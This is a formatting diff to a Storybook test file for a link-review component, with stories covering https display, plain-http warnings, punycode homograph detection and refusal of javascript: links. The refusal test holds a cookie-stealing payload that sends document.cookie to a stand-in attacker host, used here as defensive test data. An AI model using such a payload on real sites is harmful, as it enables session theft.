@@ -40,7 +40,9 @@ const urlOf = (canvasElement: HTMLElement) => canvasElement.querySelector<HTMLEl
 export const Https = meta.story({
   play: async ({ args, canvas, canvasElement }) => {
     const url = urlOf(canvasElement);
-    await expect(url).toHaveTextContent('https://accounts.example.com/oauth/authorize?client_id=cal&state=8f2c');
+    await expect(url).toHaveTextContent(
+      'https://accounts.example.com/oauth/authorize?client_id=cal&state=8f2c',
+    );
     await expect(url).toHaveAttribute('dir', 'ltr');
     await expect(within(url).getByText('example.com').tagName).toBe('STRONG');
     await expect(canvas.getByText('Site:')).toHaveTextContent('Site: accounts.example.com');
@@ -56,7 +58,9 @@ export const Https = meta.story({
 
 /** Plain http: a warning line, also read out with the Open button. */
 export const HttpWarning = meta.story({
-  args: { suspension: linkRound('http://intranet.example.org/approve?id=4411', 'Approve the expense report.') },
+  args: {
+    suspension: linkRound('http://intranet.example.org/approve?id=4411', 'Approve the expense report.'),
+  },
   play: async ({ canvas }) => {
     const warning = canvas.getByText(/This address is not encrypted \(http\)/);
     await expect(warning).toBeVisible();
@@ -74,7 +78,9 @@ export const Punycode = meta.story({
     await expect(
       canvas.getByText(/it reads "\u0430pple\.com", but its real address is xn--pple-43d\.com/),
     ).toBeVisible();
-    await expect(canvas.getByText(/mixes letters from different alphabets \(Cyrillic and Latin\)/)).toBeVisible();
+    await expect(
+      canvas.getByText(/mixes letters from different alphabets \(Cyrillic and Latin\)/),
+    ).toBeVisible();
   },
 });
 
@@ -92,7 +98,12 @@ export const Credentials = meta.story({
 
 /** `javascript:` is refused with its reason; there is no Open button, and clicking the text does nothing. */
 export const JavascriptRefused = meta.story({
-  args: { suspension: linkRound('javascript:fetch("https://evil.example/?c="+document.cookie)', 'Click to continue.') },
+  args: {
+    suspension: linkRound(
+      'javascript:fetch("https://evil.example/?c="+document.cookie)',
+      'Click to continue.',
+    ),
+  },
   play: async ({ args, canvas, canvasElement }) => {
     await expect(
       canvas.getByText('This link uses "javascript", which is not a web address, so it cannot be opened.'),
@@ -129,7 +140,9 @@ export const DoneAccepts = meta.story({
   play: async ({ args, canvas }) => {
     await userEvent.click(canvas.getByRole('button', { name: 'Open link' }));
     await userEvent.click(canvas.getByRole('button', { name: 'Done' }));
-    await waitFor(() => expect(args.resume).toHaveBeenCalledWith({ login: { action: 'accept' } }, expect.anything()));
+    await waitFor(() =>
+      expect(args.resume).toHaveBeenCalledWith({ login: { action: 'accept' } }, expect.anything()),
+    );
     await expect(await canvas.findByText('Answer sent.')).toBeVisible();
   },
 });
